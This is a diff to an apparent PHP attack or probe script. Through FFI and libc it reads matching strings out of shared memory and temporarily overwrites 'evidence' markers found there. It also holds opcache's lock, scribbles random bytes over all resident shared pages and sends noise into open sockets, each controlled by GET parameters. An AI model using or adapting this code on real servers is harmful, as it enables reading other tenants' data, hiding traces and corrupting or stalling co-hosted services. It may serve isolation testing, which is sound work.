@@ -20,18 +20,24 @@ function refused(string $step): array {
 function obtained(string $got): array { return ['got' => substr($got, 0, 65536), 'done' => true]; }
 function cannot(string $why): array { return ['cannot' => $why]; }
 
+// Addresses are plain numbers here: each function is declared with them where C has pointers.
 function ffi(): FFI {
-    return FFI::cdef('
-        void *memmem(const void *, size_t, const void *, size_t);
-        void *memcpy(void *, const void *, size_t);
-        int fcntl(int, int, ...);
+    static $c = null;
+    return $c ??= FFI::cdef('
+        uintptr_t memmem(uintptr_t, size_t, const char *, size_t);
+        uintptr_t memcpy(uintptr_t, const char *, size_t);
+        int mincore(uintptr_t, size_t, unsigned char *);
         int raise(int);
-        int open(const char *, int, ...);
-        long write(int, const void *, size_t);
-        long send(int, const void *, size_t, int);
-        int usleep(unsigned);
+        long send(int, const char *, size_t, int);
         struct flock { short l_type, l_whence; long l_start, l_len; int l_pid; };
-        int mincore(void *, size_t, unsigned char *);', 'libc.so.6');
+        int fcntl(int, int, struct flock *);', 'libc.so.6');
+}
+function peek(int $address, int $length): string {
+    static $c = null;
+    $c ??= FFI::cdef('void *memcpy(char *, uintptr_t, size_t);', 'libc.so.6');
+    $buffer = FFI::new("char[$length]");
+    $c->memcpy($buffer, $address, $length);
+    return FFI::string($buffer, $length);
 }
 function has_ffi(): bool {
     try {
@@ -52,11 +58,6 @@ function shared_mappings(): array {
     }
     return $out;
 }
-function pointer(int $address): FFI\CData {
-    $n = FFI::new('uintptr_t');
-    $n->cdata = $address;
-    return FFI::cast('char *', $n);
-}
 /** Calls $each(address) for every place in resident shared memory where $text stands. */
 function search_shared(string $text, callable $each): void {
     $c = ffi();
@@ -64,7 +65,7 @@ function search_shared(string $text, callable $each): void {
         for ($at = $start; $at < $start + $length; $at += 65536) {
             // Pages nobody touched hold nothing, and touching them would cost memory.
             $in = FFI::new('unsigned char[16]');
-            $c->mincore(pointer($at), 65536, $in);
+            $c->mincore($at, min(65536, $start + $length - $at), $in);
             $resident = false;
             for ($i = 0; $i < 16; $i++) {
                 $resident = $resident || ($in[$i] & 1);
@@ -73,9 +74,8 @@ function search_shared(string $text, callable $each): void {
                 continue;
             }
             $from = $at;
-            $end = min($at + 65536 + 64, $start + $length);
-            while (($hit = $c->memmem(pointer($from), $end - $from, $text, strlen($text))) !== null) {
-                $address = FFI::cast('uintptr_t', $hit)->cdata;
+            $end = min($at + 65536 + 16, $start + $length - 40);
+            while (($address = $c->memmem($from, $end - $from, $text, strlen($text))) !== 0) {
                 $each($address);
                 $from = $address + 1;
             }
@@ -97,7 +97,7 @@ function dump_shared(): array {
     }
     $found = '';
     search_shared($_GET['prefix'], function (int $at) use (&$found) {
-        $found .= FFI::string(pointer($at), 40) . "\n";
+        $found .= peek($at, 40) . "\n";
     });
     return $found === '' ? ['errno' => 2, 'step' => 'find the marker in shared memory'] : obtained($found);
 }
@@ -109,16 +109,16 @@ function patch_shared(): array {
     $saved = [];
     $prefix = $_GET['prefix'];
     search_shared($prefix, function (int $at) use (&$saved, $prefix) {
-        $text = FFI::string(pointer($at), 32);
+        $text = peek($at, 32);
         // An own request's parameters hold the bare prefix; evidence goes on with hex digits.
         if (preg_match('/^[0-9a-f]{20}/', substr($text, strlen($prefix)))) {
             $saved[$at] = $text;
-            ffi()->memcpy(pointer($at), strrev($text), 32);
+            ffi()->memcpy($at, strrev($text), 32);
         }
     });
     usleep(1500000);
     foreach ($saved as $at => $text) {
-        ffi()->memcpy(pointer($at), $text, 32);
+        ffi()->memcpy($at, $text, 32);
     }
     return $saved ? obtained(count($saved) . ' places') : ['errno' => 2, 'step' => 'find the evidence in shared memory'];
 }
@@ -137,17 +137,16 @@ function hold_opcache_lock(): array {
     if (!has_ffi()) {
         return cannot('FFI is off in this site');
     }
+    // A worker that may not be dumped cannot list its descriptors; trying them all is as good.
     $held = 0;
-    foreach (scandir('/proc/self/fd') ?: [] as $fd) {
-        if (!str_contains((string)@readlink("/proc/self/fd/$fd"), '.ZendSem.')) {
-            continue;
-        }
-        $lock = ffi()->new('struct flock');
-        $lock->l_type = 1;   // F_WRLCK, whole file
-        $held += ffi()->fcntl((int)$fd, 6, FFI::addr($lock)) === 0 ? 1 : 0;
+    $lock = ffi()->new('struct flock');
+    $lock->l_type = 1;   // F_WRLCK of the first byte, which opcache locks to write
+    $lock->l_len = 1;
+    for ($fd = 3; $fd < 64; $fd++) {
+        $held += ffi()->fcntl($fd, 6, FFI::addr($lock)) === 0 ? 1 : 0;
     }
     usleep(2500000);
-    return $held ? obtained('held the lock of opcache') : ['errno' => 2, 'step' => "find opcache's lock"];
+    return $held ? obtained("held locks on $held files") : ['errno' => 2, 'step' => 'lock any inherited file'];
 }
 function fill_opcache(): array {
     $dir = $_GET['own_root'];
@@ -185,7 +184,7 @@ function worker_descriptors(): array {
     }
     return $all === '' ? refused('list /proc/self/fd') : obtained($all);
 }
-/** Random bytes over every shared mapping but the one this script lives in is not enough: all. */
+/** Random bytes over every shared page, our own script's among them. */
 function scribble(): array {
     if (!has_ffi()) {
         return cannot('FFI is off in this site');
@@ -195,9 +194,9 @@ function scribble(): array {
     foreach (shared_mappings() as [$start, $length, $name]) {
         for ($at = $start; $at < $start + $length; $at += 4096) {
             $in = FFI::new('unsigned char[1]');
-            $c->mincore(pointer($at), 4096, $in);
+            $c->mincore($at, 4096, $in);
             if ($in[0] & 1) {
-                $c->memcpy(pointer($at), $noise, 4096);
+                $c->memcpy($at, $noise, 4096);
             }
         }
     }
@@ -209,17 +208,13 @@ function garble_channels(): array {
     }
     $c = ffi();
     $sent = 0;
-    foreach (scandir('/proc/self/fd') ?: [] as $fd) {
-        $what = (string)@readlink("/proc/self/fd/$fd");
-        if (str_starts_with($what, 'socket:') || str_starts_with($what, 'pipe:') || str_contains($what, 'eventfd')) {
-            for ($i = 1; $i <= 64; $i++) {
-                $noise = random_bytes($i);
-                $c->send((int)$fd, $noise, $i, 0x4040);   // MSG_DONTWAIT | MSG_NOSIGNAL
-            }
-            $sent++;
+    for ($fd = 3; $fd < 64; $fd++) {
+        for ($i = 1; $i <= 64; $i++) {
+            // MSG_DONTWAIT | MSG_NOSIGNAL; what is not a socket refuses it
+            $sent += $c->send($fd, random_bytes($i), $i, 0x4040) > 0 ? 1 : 0;
         }
     }
-    return obtained("sent noise into $sent descriptors");
+    return obtained("sent $sent pieces of noise");
 }
 function spin(float $seconds): array {
     set_time_limit(0);
